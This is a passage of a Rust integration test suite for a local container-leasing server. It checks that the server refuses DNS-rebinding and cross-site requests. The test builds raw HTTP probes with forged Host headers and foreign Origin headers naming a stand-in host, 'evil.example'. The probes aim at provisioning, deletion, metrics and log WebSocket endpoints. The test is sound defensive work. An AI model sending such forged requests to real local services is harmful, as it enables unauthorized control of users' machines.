            .collect::<Vec<_>>()
            .join("\n")
    );

    // No 5xx.
    let examples: Vec<String> = tally
        .server_errors
        .iter()
        .take(10)
        .map(|(i, s, r, b)| format!("#{i} → {s} {b}\n     {r}"))
        .collect();
    assert_eq!(
        five_xx,
        0,
        "5xx answers (seed {seed}):\n{}",
        examples.join("\n")
    );
    // Every request got an answer or a close, none hung, none was refused.
    let failures: Vec<String> = tally
        .other_failures
        .iter()
        .take(10)
        .map(|(i, what, r)| format!("#{i} {what}\n     {r}"))
        .collect();
    assert!(
        tally.other_failures.is_empty(),
        "{} request(s) timed out or could not connect (seed {seed}):\n{}",
        tally.other_failures.len(),
        failures.join("\n")
    );
    // Every error the application answered has the one JSON error shape
    // (hyper's own bodiless 400/431 for unparseable requests aside).
    let unshaped: Vec<String> = tally
        .unshaped_errors
        .iter()
        .take(10)
        .map(|(i, s, r, b)| format!("#{i} → {s} {b}\n     {r}"))
        .collect();
    assert!(
        tally.unshaped_errors.is_empty(),
        "4xx answers without the JSON error body (seed {seed}):\n{}",
        unshaped.join("\n")
    );
    // Nothing was created or changed.
    assert!(
        tally.mutating_successes.is_empty(),
        "mutating requests succeeded (seed {seed}): {:?}",
        tally.mutating_successes.iter().take(10).collect::<Vec<_>>()
    );
    let leases = server.api().list().expect("GET /api/containers");
    assert!(leases.is_empty(), "leases were created: {leases:?}");
    let history = server.api().history().expect("GET /api/history");
    assert!(
        history.is_empty(),
        "leases were created (history): {history:?}"
    );
    let containers = docker::containers_of(&namespace);
    figure("scenario8.containers_created", containers.len());
    assert!(
        containers.is_empty(),
        "containers were created: {containers:?}"
    );

    // Memory stays bounded.
    let growth = rss_settled.max(rss_end).saturating_sub(rss_warm);
    assert!(
        growth < RSS_GROWTH_LIMIT_KB,
        "VmRSS grew by {growth} KiB after warm-up (limit {RSS_GROWTH_LIMIT_KB} KiB): start {rss_start}, warm {rss_warm}, half {rss_half}, end {rss_end}, settled {rss_settled}"
    );
}

// ---------------------------------------------------------------------------
// The rebinding request set.

/// One request of the rebinding set: what it tries, its bytes, the status
/// it must get.
struct Probe {
    what: String,
    bytes: Vec<u8>,
    expect: u16,
}

/// An HTTP/1.1 request with exactly these headers (no `Host` unless given).
fn raw_request(method: &str, target: &str, headers: &[(&str, &str)], body: &str) -> Vec<u8> {
    let mut text = format!("{method} {target} HTTP/1.1\r\n");
    for (name, value) in headers {
        let _ = write!(text, "{name}: {value}\r\n");
    }
    if !body.is_empty() {
        let _ = write!(
            text,
            "Content-Type: application/json\r\nContent-Length: {}\r\n",
            body.len()
        );
    }
    text.push_str("Connection: close\r\n\r\n");
    text.push_str(body);
    text.into_bytes()
}

/// What a DNS-rebinding page (foreign `Host`) and a cross-site page (foreign
/// `Origin`) can send to a single-user server on 127.0.0.1 — each must be
/// refused — and what the server's own page and a local client send, which
/// must be served.
fn rebinding_set(port: u16, id: &str) -> Vec<Probe> {
    let provision = r#"{"imageType":"busybox","durationMinutes":2}"#;
    let extend = r#"{"minutes":30}"#;
    let local = format!("127.0.0.1:{port}");
    let page = format!("http://127.0.0.1:{port}");
    let rebound = [
        format!("evil.example:{port}"),
        "evil.example".to_owned(),
        format!("localhost.evil.example:{port}"),
        format!("127.0.0.1.nip.io:{port}"),
        format!("192.168.1.10:{port}"),
    ];
    let websocket: [(&str, &str); 4] = [
        ("Upgrade", "websocket"),
        ("Connection", "Upgrade"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ("Sec-WebSocket-Version", "13"),
    ];
    let mut probes = Vec::new();
    let mut add = |what: String, bytes: Vec<u8>, expect: u16| {
        probes.push(Probe {
            what,
            bytes,
            expect,
        });
    };
    for host in &rebound {
        let headers = [("Host", host.as_str()), ("Origin", "http://evil.example")];
        add(
            format!("rebound provision, Host {host}"),
            raw_request("POST", "/api/provision", &headers, provision),
            421,
        );
        add(
            format!("rebound list, Host {host}"),
            raw_request("GET", "/api/containers", &headers[..1], ""),
            421,
        );
        add(
            format!("rebound delete, Host {host}"),
            raw_request(
                "DELETE",
                &format!("/api/containers/{id}"),
                &headers[..1],
                "",
            ),
            421,
        );
        add(
            format!("rebound metrics, Host {host}"),
            raw_request("GET", "/metrics", &headers[..1], ""),
            421,
        );
        let mut upgrade = websocket.to_vec();
        upgrade.push(("Host", host.as_str()));
        add(
            format!("rebound log WebSocket, Host {host}"),
            raw_request("GET", &format!("/ws/logs/{id}"), &upgrade, ""),
            421,
        );
    }
    add(
        "provision without Host".to_owned(),
        raw_request("POST", "/api/provision", &[], provision),
        421,
    );
    add(
        "absolute target naming another host".to_owned(),
        raw_request(
            "POST",
            &format!("http://evil.example:{port}/api/provision"),
            &[("Host", &local)],
            provision,
        ),
        421,
    );
    for origin in [
        "http://evil.example",
        "null",
        "http://localhost.evil.example",
    ] {
        let headers = [("Host", local.as_str()), ("Origin", origin)];
        add(
            format!("cross-site provision, Origin {origin}"),
            raw_request("POST", "/api/provision", &headers, provision),
            403,
        );
        add(
            format!("cross-site extend, Origin {origin}"),
            raw_request(
                "POST",
                &format!("/api/containers/{id}/extend"),
                &headers,
                extend,
            ),
            403,
        );
        add(
            format!("cross-site delete, Origin {origin}"),
            raw_request("DELETE", &format!("/api/containers/{id}"), &headers, ""),
            403,
        );
        add(
            format!("cross-site event stream, Origin {origin}"),
            raw_request("GET", "/api/events", &headers, ""),
            403,
        );
        let mut upgrade = websocket.to_vec();
        upgrade.extend(headers);
        add(
            format!("cross-site log WebSocket, Origin {origin}"),
            raw_request("GET", &format!("/ws/logs/{id}"), &upgrade, ""),
            403,
        );
    }
    // Served: a local client (no Origin) and the server's own page.
    for host in [local.clone(), format!("localhost:{port}")] {
        add(
            format!("local list, Host {host}"),
            raw_request("GET", "/api/containers", &[("Host", &host)], ""),
            200,
        );
    }
    add(
        "the page's own log WebSocket".to_owned(),
        raw_request(
            "GET",
            &format!("/ws/logs/{id}"),
            &[websocket.as_slice(), &[("Host", &local), ("Origin", &page)]].concat(),
            "",
        ),
        101,
    );
    probes
}

/// Scenario 8, rebinding: a single-user server (no tokens, the default) on
/// 127.0.0.1 gets the request set of a DNS-rebinding page and of cross-site
/// pages. Each is refused (421 `wrong_host`, 403 `foreign_origin`) and
/// nothing changes; the local client and the server's own page are served.
#[test]
fn rebinding_and_cross_site_requests_get_nothing() {
    const TEST: &str = "rebinding";
    if !docker::docker_ready() {
        return;
    }
    let namespace = random_namespace();
    let _guard = NamespaceGuard::new(&namespace);
    let Some(server) = Server::start(server::config(&namespace)) else {
        return;
    };
    let api = server.api();
    // One real lease for the cross-site requests to aim at.
    let lease = api.provision("busybox", 2).unwrap().ok().unwrap();
    let id = lease["id"].as_str().unwrap().to_owned();
    let running =
        lease_reliability::wait_for(Duration::from_secs(60), Duration::from_millis(100), || {
            api.status(&id)
                .ok()
                .filter(|r| r.body["status"] == "running")
        });
    assert!(
        running.is_some(),
        "the lease never ran:\n{}",
        server.log_text()
    );

    let probes = rebinding_set(server.address().port(), &id);
    let mut wrong = Vec::new();
    let (mut refused, mut served) = (0, 0);
    let mut refusal_times = Vec::new();
    for probe in &probes {
        let started = Instant::now();
        let outcome = exchange(server.address(), &probe.bytes, Duration::from_secs(10));
        let status = outcome.status();
        if probe.expect >= 400 {
            refusal_times.push(started.elapsed());
            let code = serde_json::from_slice::<Value>(outcome.body())
                .ok()
                .and_then(|v| {
                    v.pointer("/error/code")
                        .and_then(Value::as_str)
                        .map(str::to_owned)
                });
            let expected_code = if probe.expect == 421 {
                "wrong_host"
            } else {
                "foreign_origin"
            };
            if status == Some(probe.expect) && code.as_deref() == Some(expected_code) {
                refused += 1;
                continue;
            }
        } else if status == Some(probe.expect) {
            served += 1;
            continue;
        }
        wrong.push(format!(
            "{}: got {status:?} {}, expected {}",
            probe.what,
            clip(&String::from_utf8_lossy(outcome.body()), 200),
            probe.expect
        ));
    }
    let expected_refusals = probes.iter().filter(|p| p.expect >= 400).count();
    eprintln!(
        "{TEST}: {} requests, {refused}/{expected_refusals} refused, {served} served",
        probes.len()
    );
    figure("scenario8.rebinding_requests", probes.len());
    figure("scenario8.rebinding_refused", refused);
    figure("scenario8.rebinding_wrongly_answered", wrong.len());
    if let Some(p99) = lease_reliability::quantile(&refusal_times, 0.99) {
        figure(
            "scenario8.rebinding_refusal_p99_ms",
            format!("{:.2}", p99.as_secs_f64() * 1000.0),
        );
    }
    assert!(wrong.is_empty(), "wrong answers:\n{}", wrong.join("\n"));

    // Nothing changed: still one lease, running, 2 minutes; its one container.
    let leases = api.list().unwrap();
    assert_eq!(leases.len(), 1, "{leases:?}");
    assert_eq!(leases[0]["id"], id.as_str());
    assert_eq!(leases[0]["durationMinutes"], 2, "{leases:?}");
    assert_eq!(leases[0]["status"], "running", "{leases:?}");
    let containers = docker::containers_of(&namespace);
    figure("scenario8.rebinding_containers", containers.len());
    assert_eq!(containers.len(), 1, "{containers:?}");
    assert!(api.delete(&id).unwrap().status < 300);
}
